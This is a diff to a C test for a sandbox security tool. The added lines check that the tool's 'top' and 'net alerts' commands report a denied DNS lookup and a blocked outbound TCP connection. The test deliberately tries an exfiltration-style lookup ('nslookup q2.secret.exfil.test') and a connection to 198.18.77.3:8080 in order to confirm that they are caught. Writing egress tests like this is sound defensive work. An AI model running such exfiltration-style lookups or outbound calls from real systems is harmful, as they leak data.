@@ -485,10 +485,23 @@ static void test_alerts(void **state)
     dsec_sandbox_info a;
     make(NULL, &a);
     char out[1024];
+    /* operators watch with dsec top and dsec net alerts while it happens */
+    assert_int_equal(run("DSEC_URL=%s %s top --once --interval 4000 > %s/top.txt 2>&1 &",
+                         dsec_natsd_url(natsd), DSEC_CLI, root),
+                     0);
+    assert_int_equal(run("DSEC_URL=%s %s net alerts --count 2 --timeout 15 > %s/alerts.txt 2>&1 &",
+                         dsec_natsd_url(natsd), DSEC_CLI, root),
+                     0);
+    usleep(700 * 1000);
     assert_int_not_equal(sh(a.id, "nslookup q2.secret.exfil.test", out, sizeof out), 0);
     assert_int_equal(tcp(a.id, "198.18.77.3", 8080, out, sizeof out), -1);
     assert_true(alert_seen(a.id, "dns_denied", "q2.secret.exfil.test", "A"));
     assert_true(alert_seen(a.id, "blocked", "198.18.77.3", "tcp/8080"));
+    sleep(4);
+    assert_int_equal(run("grep -q 'network alerts: [1-9].*dns_denied' %s/top.txt", root), 0);
+    assert_int_equal(run("grep -q '\"kind\":\"dns_denied\".*\"dest\":\"q2.secret.exfil.test\"' %s/alerts.txt",
+                         root),
+                     0);
     destroy(a.id);
 }
 
